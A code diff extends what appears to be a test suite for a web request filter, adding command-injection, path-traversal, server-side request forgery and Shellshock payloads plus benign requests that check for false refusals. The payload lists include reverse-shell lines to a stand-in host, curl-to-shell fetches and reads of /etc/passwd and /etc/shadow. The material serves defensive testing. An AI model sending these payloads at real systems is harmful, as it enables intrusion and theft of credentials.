@@ -105,7 +105,9 @@ SHELL = [";cat /etc/passwd", "|id", "$(curl http://e.example/x|sh)", "`wget http
          "& nc -e /bin/sh 192.0.2.9 4444",
          "; bash -i >& /dev/tcp/192.0.2.9/4444 0>&1", "127.0.0.1; uname -a", "|| ping -c 10 192.0.2.9 ||",
          "\n/bin/cat /etc/shadow",
-         "; python3 -c 'import os; os.system(\"id\")'", "a.jpg;rm -rf /tmp/x", "%0aid"]
+         "; python3 -c 'import os; os.system(\"id\")'", "a.jpg;rm -rf /tmp/x", "%0aid", "a;cat${IFS}/etc/passwd",
+         "1|whoami", "x; c\\at /etc/passwd", "report for Anna; cat /etc/passwd", "8.8.8.8 & type c:\\boot.ini",
+         "a && powershell -enc SQBFAFgA"]
 TRAVERSAL = ["../../../../etc/passwd", "..\\..\\windows\\win.ini", "....//....//etc/passwd", "/etc/passwd",
              "..%2f..%2f..%2fetc%2fpasswd",
              "%2e%2e/%2e%2e/%2e%2e/etc/passwd", "..%252f..%252fetc/passwd", "..%c0%af..%c0%afetc/passwd",
@@ -128,7 +130,8 @@ SSRF = ["http://169.254.169.254/latest/meta-data/iam/", "http://localhost:22/", 
         "gopher://127.0.0.1:6379/_INFO",
         "http://[::1]/admin", "http://0x7f000001/", "http://2130706433/", "dict://127.0.0.1:11211/stat",
         "http://metadata.google.internal/",
-        "file:///etc/hosts", "http://127.1/"]
+        "file:///etc/hosts", "http://127.1/", "http://10.0.0.1/", "http://0177.0.0.1/", "http://[::ffff:127.0.0.1]/",
+        "http://shop.example@192.168.1.1/", "http://127.0.0.1.nip.io/"]
 SHOCK = ["() { :;}; echo; /bin/cat /etc/passwd", "() { :; }; /bin/bash -c 'id'",
          "() { ignored;};/bin/bash -i >& /dev/tcp/192.0.2.9/80 0>&1",
          "() { _; } >_[$($())] { echo hi; id; }", "() { (a)=>\\"]
@@ -162,7 +165,7 @@ def xss_form(s):
     in_forms(s, XSS)
 
 
-@attack("Shell command in a URL")
+@attack("Shell command in a URL", short=True)
 def shell_url(s):
     in_urls(s, SHELL, "/ping?host=")
 
@@ -206,7 +209,7 @@ def traversal_path(s):
         curl(s, to, v)
 
 
-@attack("Code and template injection in a URL")
+@attack("Code and template injection in a URL", short=True)
 def code_url(s):
     in_urls(s, CODE, "/page?name=")
 
@@ -225,7 +228,7 @@ def xxe(s):
              "<r><name>&x;</name></r>")
 
 
-@attack("Server-side request forgery in a URL")
+@attack("Server-side request forgery in a URL", short=True)
 def ssrf(s):
     in_urls(s, SSRF, "/fetch?url=")
 
@@ -374,7 +377,11 @@ HONEST = ("/", "/item?id=17", "/search?q=O%27Brien+%26+sons", "/search?q=select+
           "/c?x=1%2B1%3D2",
           "/w?name=Anna+%22the+pump%22+Lee", "/m?text=drop+the+table+at+the+door%2C+please",
           "/q?filter=name+eq+%27pump%27",
-          "/q?m=it%27s+5+o%27clock", "/a/b/c..d/e", "/img/logo@2x.png", "/q?json=%7B%22id%22%3A7%7D")
+          "/q?m=it%27s+5+o%27clock", "/tags?t=bash%3Bpython%3Bperl", "/fields?f=id%7Cname%7Ctype", 
+          "/say?m=dogs%3B+cat+is+out+%26+about",
+          "/q?q=curl+-s+a.example+%7C+bash+-s", "/mail?t=Hello+%7B%7Bname%7D%7D", "/q?q=phpinfo()",
+          "/oauth?redirect_uri=http%3A%2F%2F127.0.0.1%3A51004%2F&state=x", "/go?url=https%3A%2F%2F8.8.8.8%2F",
+          "/a/b/c..d/e", "/img/logo@2x.png", "/q?json=%7B%22id%22%3A7%7D")
 
 
 @attack("none: honest requests", note="what is refused here is refused wrongly", short=True)
@@ -386,7 +393,8 @@ def honest(s):
              "session=5f3a9c0d; lang=en",
              "-H", "Accept-Language: en-GB,en;q=0.5", "-H", "Referer: http://shop.example/list?page=2")
     for body in ("name=Anna&comment=It%27s+fine%2C+thanks", "user=anna&note=select+one+or+more",
-                 "q=a+%3C+b&r=c+%3E+d", "text=Hello%0AWorld"):
+                 "q=a+%3C+b&r=c+%3E+d", "text=Hello%0AWorld", "text=I+typed%0Als+-la%0Aand+it+hung",
+                 "text=use+%60ls+-la%60+%26+%60cat%60"):
         curl(s, to, "/post", "-d", body)
     for body in ('{"name": "O\'Brien", "note": "a < b && c > d"}', '{"query": "select the red one", "n": [1, 2, 3]}',
                  "[]"):
